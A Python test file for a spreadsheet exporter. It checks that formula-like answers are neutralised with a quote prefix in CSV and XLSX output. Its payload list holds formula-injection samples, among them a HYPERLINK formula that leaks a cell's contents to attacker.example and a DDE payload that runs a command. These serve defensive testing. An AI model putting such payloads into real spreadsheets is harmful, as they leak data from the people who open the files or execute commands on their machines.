"""Formula injection: what neutralise() does, and what each format ends up showing."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from exporters import CellWrite, fill_csv, fill_xlsx, is_formula_like, neutralise
from tests.exporters._helpers import libreoffice_csv

PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\n=1+1",
    "＝1+1",  # full-width equals sign
]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    ("  =1+1", "'  =1+1"),
    ("\u00a0@x", "'\u00a0@x"),
    ("＝1+1", "'＝1+1"),
    ("Yes", "Yes"),
    ("", ""),
    ("a=b", "a=b"),
    ("'=1+1", "'=1+1"),  # already inert
    ("1-2", "1-2"),
    ("中文答案", "中文答案"),
])
def test_neutralise_table(value, expected):
    assert neutralise(value) == expected
    assert neutralise(neutralise(value)) == expected  # idempotent
    assert is_formula_like(value) == (expected != value)


def test_neutralise_rejects_non_strings():
    with pytest.raises(TypeError):
        neutralise(1)  # type: ignore[arg-type]


def _xlsx_with_payloads() -> tuple[bytes, dict[str, str]]:
    wb = openpyxl.Workbook()
    wb.active.title = "Answers"
    buf = io.BytesIO()
    wb.save(buf)
    cells = {f"A{i}": v for i, v in enumerate(PAYLOADS + ["_x0041_ literal"], start=1)}
    out = fill_xlsx(buf.getvalue(), [CellWrite("Answers", ref, v) for ref, v in cells.items()])
    return out, cells


def _as_cell_text(value: str) -> str:
    return value.replace("\r\n", "\n").replace("\r", "\n")  # Excel's line break is LF


def test_xlsx_payloads_are_text_cells_for_openpyxl():
    out, cells = _xlsx_with_payloads()
    ws = openpyxl.load_workbook(io.BytesIO(out))["Answers"]
    for ref, value in cells.items():
        if value.startswith("_x"):
            continue  # openpyxl does not decode _xHHHH_ escapes in inline strings
        assert ws[ref].data_type == "s", (ref, value)
        assert ws[ref].value == _as_cell_text(value)


def test_xlsx_payloads_show_as_literal_text_in_libreoffice(tmp_path):
    out, cells = _xlsx_with_payloads()
    rows = libreoffice_csv(out, tmp_path)["Answers"]
    shown = [r[0] if r else "" for r in rows]
    assert shown == [_as_cell_text(v) for v in cells.values()]  # "=1+1", never "2"


def test_csv_payloads_are_prefixed_and_read_back_as_text():
    src = b"id,question,answer\r\n" + b"".join(b"Q%d,q,\r\n" % i for i in range(len(PAYLOADS)))
    out = fill_csv(src, [(i + 2, 3, v) for i, v in enumerate(PAYLOADS)])
    rows = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    assert [r[2] for r in rows[1:]] == ["'" + v for v in PAYLOADS]


def test_csv_neutralising_can_be_turned_off():
    out = fill_csv(b"a\r\n", [(1, 2, "=1+1")], neutralise_formulas=False)
    assert out == b"a,=1+1\r\n"


def test_csv_payloads_stay_text_when_libreoffice_imports_the_csv(tmp_path):
    """Control included: the same payload *without* neutralising becomes a formula."""
    import subprocess

    from tests.exporters._helpers import soffice_or_skip

    exe = soffice_or_skip()
    payloads = ["=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("http://x.example","y")']
    src = b"id,answer,raw\r\n" + b"".join(b"%d,,\r\n" % i for i in range(len(payloads)))
    writes = [(i + 2, 2, v) for i, v in enumerate(payloads)]
    out = fill_csv(src, writes)
    out = fill_csv(out, [(r, 3, v) for r, _, v in writes], neutralise_formulas=False)
    (tmp_path / "inj.csv").write_bytes(out)
    proc = subprocess.run(
        [exe, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
         "--convert-to", "xlsx", "--outdir", str(tmp_path), str(tmp_path / "inj.csv")],
        capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0 and (tmp_path / "inj.xlsx").exists(), proc.stderr
    ws = openpyxl.load_workbook(tmp_path / "inj.xlsx").active
    for i, value in enumerate(payloads, start=2):
        assert (ws.cell(i, 2).value, ws.cell(i, 2).data_type) == ("'" + value, "s")
    assert ws.cell(2, 3).data_type == "f"  # the control: raw "=1+1" is parsed as a formula


def _styled_xlsx() -> bytes:
    from openpyxl.styles import PatternFill

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Answers"
    for ref in ("B1", "B2", "B3", "B4"):
        ws[ref].fill = PatternFill("solid", fgColor="FFF2CC")
    ws["C1"] = "typed with a quote"
    ws["C1"].quotePrefix = True
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_xlsx_formula_like_answers_get_a_quote_prefix_style():
    """Issue #14: a formula-like answer stays text when a person edits the cell or saves as CSV:
    its cell points at a copy of its own style with quotePrefix="1", appended once per source style."""
    from tests.exporters._helpers import assert_styles_only_appended, zip_parts

    src = _styled_xlsx()
    writes = [CellWrite("Answers", "A1", "=1+1"), CellWrite("Answers", "B1", "-1"),
              CellWrite("Answers", "B2", "@SUM(A1)"), CellWrite("Answers", "B3", "Yes"),
              CellWrite("Answers", "B4", "\rx"), CellWrite("Answers", "C1", "+44 20 7946 0000"),
              CellWrite("Answers", "D9", "=cmd|' /C calc'!A0")]
    out = fill_xlsx(src, writes)
    ws = openpyxl.load_workbook(io.BytesIO(out))["Answers"]
    for w in writes:
        cell = ws[w.cell]
        assert (cell.value, cell.data_type) == (_as_cell_text(w.value), "s"), w
        assert cell.quotePrefix == (w.value != "Yes"), w
    assert ws["B1"].fill.fgColor.rgb == ws["B3"].fill.fgColor.rgb == "00FFF2CC"  # its own style, copied
    # one new xf per distinct source style (B1, B2, B4 share one; A1 and D9 the default), none for
    # C1 whose style already has quotePrefix; nothing else in styles.xml changes
    added = assert_styles_only_appended(zip_parts(src)["xl/styles.xml"], zip_parts(out)["xl/styles.xml"])
    assert len(added) == 2


def test_xlsx_quote_prefix_survives_libreoffice_resave(tmp_path):
    """LibreOffice reads the answer as the literal text, its CSV export writes that text (never a
    computed value), and a workbook it saves again still holds text cells. (LibreOffice itself does
    not write quotePrefix back: that part of the protection is Excel's.)"""
    import subprocess

    from tests.exporters._helpers import soffice_or_skip

    exe = soffice_or_skip()
    out = fill_xlsx(_styled_xlsx(), [CellWrite("Answers", "A1", "=1+1"), CellWrite("Answers", "B1", "-1+1")])
    assert [r[:2] for r in libreoffice_csv(out, tmp_path / "csv")["Answers"][:1]] == [["=1+1", "-1+1"]]
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "filled.xlsx").write_bytes(out)
    proc = subprocess.run(
        [exe, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
         "--convert-to", "xlsx", "--outdir", str(tmp_path / "resaved"), str(tmp_path / "in" / "filled.xlsx")],
        capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0, proc.stderr
    ws = openpyxl.load_workbook(tmp_path / "resaved" / "filled.xlsx").active
    for ref, value in (("A1", "=1+1"), ("B1", "-1+1")):
        assert (ws[ref].value, ws[ref].data_type) == (value, "s")
